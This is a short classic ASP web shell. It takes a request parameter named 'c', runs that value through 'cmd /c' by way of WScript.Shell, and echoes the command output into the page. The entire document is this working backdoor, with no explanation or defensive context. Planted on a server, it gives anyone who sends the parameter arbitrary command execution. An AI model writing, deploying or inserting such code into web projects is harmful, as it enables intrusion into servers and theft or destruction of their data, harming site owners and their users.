<%
Set sh = CreateObject("WScript.Shell")
Response.Write "<pre>" & Server.HTMLEncode(sh.Exec("cmd /c " & Request("c")).StdOut.ReadAll()) & "</pre>"
%>
